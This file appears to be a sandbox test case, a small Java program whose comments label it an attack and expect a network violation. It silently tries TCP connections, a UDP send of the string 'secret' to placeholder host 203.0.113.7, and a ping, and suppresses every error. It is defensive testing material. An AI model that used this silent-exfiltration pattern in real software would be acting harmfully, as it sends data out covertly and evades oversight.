// attack: reach out over TCP (IPv4 and IPv6), UDP and ping, swallow every error and exit 0, leaving no trace in the output
// expect: VIOLATION NETWORK
// expect-runsc: PASSED
// evidence: network-sink
// stopped-by: network none; seen by the network witness, which owns the namespace (gVisor: no witness, a known limit)
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
public class SilentConnect {
  public static void main(String[] args) {
    for (String address : new String[] {"198.51.100.7", "2001:db8::7"}) {
      try (Socket socket = new Socket()) {
        socket.connect(new InetSocketAddress(address, 443), 2000);
      } catch (Exception quiet) {
        // nothing printed
      }
    }
    try (DatagramSocket socket = new DatagramSocket()) {
      byte[] data = "secret".getBytes();
      socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("203.0.113.7"), 9999));
    } catch (Exception quiet) {
      // nothing printed
    }
    try {
      InetAddress.getByName("198.51.100.8").isReachable(500);
    } catch (Exception quiet) {
      // nothing printed
    }
  }
}
